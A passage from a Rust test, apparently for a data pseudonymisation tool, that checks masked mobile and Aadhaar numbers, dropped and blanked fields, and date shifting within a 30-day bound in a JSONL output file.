    let filtered = std::fs::read_to_string(d.join("f.jsonl")).unwrap();
    assert_eq!(filtered, pseudonymised);
    let first: serde_json::Value = serde_json::from_str(filtered.lines().next().unwrap()).unwrap();
    assert_eq!(first["mobile"], "XXXXXX3210");
    assert_eq!(first["ward"], 7);
    assert!(first.get("notes").is_none());
    assert_eq!(first["members"][1]["seen"], "");
    // The shift itself is random per key (an offset of 0 days is possible): its bytes are held
    // to `pseudonymise`'s above; here only its shape and bound (max_days 30 around 2026-01-15).
    let visit = first["visit"].as_str().unwrap();
    assert!(
        ("2025-12-16".."2026-02-15").contains(&visit) && visit.len() == 10,
        "{visit}"
    );
    assert!(first["members"][0]["aadhaar"]
        .as_str()
        .unwrap()
        .starts_with("XXXX XXXX "));
}
